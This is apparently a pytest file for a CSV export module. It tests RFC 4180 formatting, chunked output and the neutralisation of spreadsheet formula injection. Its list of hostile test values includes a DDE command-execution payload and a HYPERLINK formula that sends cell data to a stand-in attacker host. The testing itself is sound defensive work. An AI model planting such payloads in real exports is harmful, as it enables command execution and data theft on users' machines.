"""CSV writing: RFC 4180 layout, formula neutralisation and its exact reversal."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from reviewapp.export.csvstream import (
    BOM,
    FORMULA_TRIGGERS,
    csv_chunks,
    format_cell,
    neutralise,
    unneutralise,
)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "-1",
    "+1",
    "@SUM(A1)",
    "'quoted",
    "''twice",
    "'",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " -2",
    "\uff1dSUM(A1)",
    "first line\nsecond line",
    "windows\r\nline",
    "lone\rcarriage",
    'he said "hi", then left',
    "comma, separated, text",
    '"',
    "中文专利说明书",
    "العربية",
    "emoji 🔋⚡️👩🏽‍🔬",
    "",
    " ",
    "plain text",
    "a\x00nul",
    "-",
    "=",
]


def read_back(text: str) -> list[list[str]]:
    """Parse CSV text as a data user would."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_neutralise_prefixes_one_quote_exactly_when_needed():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-1") == "'-1"
    assert neutralise("  @x") == "'  @x"
    assert neutralise("'already") == "''already"
    assert neutralise("safe = text") == "safe = text"
    assert neutralise(" plain") == " plain"
    assert neutralise("") == ""


def test_unneutralise_strips_exactly_one_quote():
    assert unneutralise("''already") == "'already"
    assert unneutralise("'=1") == "=1"
    assert unneutralise("plain") == "plain"
    assert unneutralise("") == ""


@pytest.mark.parametrize("value", HOSTILE)
def test_every_hostile_value_survives_the_round_trip(value):
    text = "".join(csv_chunks(["value"], [(value,)]))
    header, row = read_back(text)
    assert header == ["value"]
    assert unneutralise(row[0]) == value
    assert not row[0][:1] in FORMULA_TRIGGERS
    assert row[0].lstrip(" ")[:1] not in FORMULA_TRIGGERS


def test_a_whole_file_of_hostile_rows_reads_back_intact_and_inert():
    rows = [(i, value, value[::-1]) for i, value in enumerate(HOSTILE)]
    text = "".join(csv_chunks(["id", "text", "reversed"], rows, chunk_rows=3))
    parsed = read_back(text)
    assert parsed[0] == ["id", "text", "reversed"]
    assert len(parsed) == len(HOSTILE) + 1
    for (number, value, reverse), cells in zip(rows, parsed[1:]):
        assert cells[0] == str(number)
        assert [unneutralise(c) for c in cells[1:]] == [value, reverse]
        for cell in cells:
            assert cell.lstrip(" ")[:1] not in FORMULA_TRIGGERS, cell


def test_layout_is_rfc_4180_crlf_minimal_quoting_no_bom():
    text = "".join(csv_chunks(["a", "b"], [("x,y", 'say "no"'), ("plain", "two\nlines")]))
    assert text == 'a,b\r\n"x,y","say ""no"""\r\nplain,"two\nlines"\r\n'
    assert not text.startswith(BOM)


def test_bom_only_when_asked():
    text = "".join(csv_chunks(["a"], [("é",)], bom=True))
    assert text.startswith(BOM)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert read_back(text[1:]) == [["a"], ["é"]]


def test_numbers_stay_numbers_and_other_types_are_formatted():
    assert format_cell(-3) == -3
    assert format_cell(-0.25) == -0.25
    assert format_cell(None) == ""
    assert format_cell(True) == "true"
    assert format_cell(float("-inf")) == "'-inf"  # not a finite number: text, neutralised
    assert format_cell(dt.date(2024, 1, 31)) == "2024-01-31"
    aware = dt.datetime(2024, 1, 31, 13, 5, 9, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    assert format_cell(aware) == "2024-01-31T11:05:09Z"
    assert format_cell(dt.datetime(2024, 1, 31, 11, 5, 9)) == "2024-01-31T11:05:09Z"
    text = "".join(csv_chunks(["n", "x"], [(-1, -0.5)]))
    assert read_back(text)[1] == ["-1", "-0.5"]


def test_chunks_are_generated_lazily():
    consumed = []

    def rows():
        for i in range(10):
            consumed.append(i)
            yield (i,)

    chunks = csv_chunks(["n"], rows(), chunk_rows=4)
    assert consumed == []
    first = next(chunks)
    assert consumed == [0, 1, 2, 3]
    assert first == "n\r\n0\r\n1\r\n2\r\n3\r\n"
    assert "".join(chunks) == "4\r\n5\r\n6\r\n7\r\n8\r\n9\r\n"
